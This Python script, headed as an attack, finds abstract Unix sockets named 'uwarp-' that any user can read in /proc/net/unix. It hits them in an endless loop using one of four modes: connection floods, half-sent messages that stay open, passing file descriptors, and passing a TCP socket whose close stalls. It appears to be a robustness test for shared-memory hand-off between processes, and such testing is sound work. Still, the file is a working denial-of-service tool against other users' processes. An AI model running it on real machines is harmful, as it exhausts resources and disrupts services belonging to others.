# SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
"""mailbox.py ATTACK: sends to each abstract Unix socket of processes under uwarp, over which they hand
shared memory to each other. Their names stand in /proc/net/unix for all users to read; the number of
the connection does not.

flood        connects and leaves, without an end
stay         connects, says half of something, and stays
descriptors  sends four descriptors with each message
linger       sends a TCP socket whose last close waits until its peer has taken what is in it
"""

import array
import collections
import contextlib
import os
import re
import socket
import sys

from stuck_socket import stuck_socket

KEPT = 500
LETTER_BYTES = 32
PATTERN = re.compile(r"@(uwarp-[0-9a-f]+)$", re.M)

attack = sys.argv[1]
kept = collections.deque()


def mailboxes():
    with open("/proc/net/unix", encoding="ascii", errors="replace") as table:
        return sorted(set(PATTERN.findall(table.read())))


def visit(name):
    """A socket that sends there, whichever kind it takes."""
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        one = socket.socket(socket.AF_UNIX, kind)
        one.setblocking(False)
        try:
            one.connect("\0" + name)
            return one
        except OSError:
            one.close()
    return None


def keep(one):
    kept.append(one)
    if len(kept) > KEPT:
        kept.popleft().close()


def stuck():
    near, far = stuck_socket(4)
    keep(far)
    return near


def send_descriptors(one, descriptors):
    rights = array.array("i", descriptors)
    one.sendmsg([os.urandom(LETTER_BYTES)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


def call(one):
    if attack == "flood":
        one.close()
        return
    if attack == "stay":
        one.send(b"abc")
    elif attack == "descriptors":
        send_descriptors(one, [0, 0, 0, 0])
    elif attack == "linger":
        with stuck() as one_end:
            send_descriptors(one, [one_end.fileno()] * 3)
    keep(one)


print("ready", flush=True)
calls = 0
while True:
    for mailbox in mailboxes():
        for _ in range(200 if attack == "flood" else 5):
            with contextlib.suppress(OSError):
                visitor = visit(mailbox)
                if visitor is None:
                    break
                call(visitor)
                calls += 1
                if calls in (1, 1000):
                    print("called", calls, flush=True)
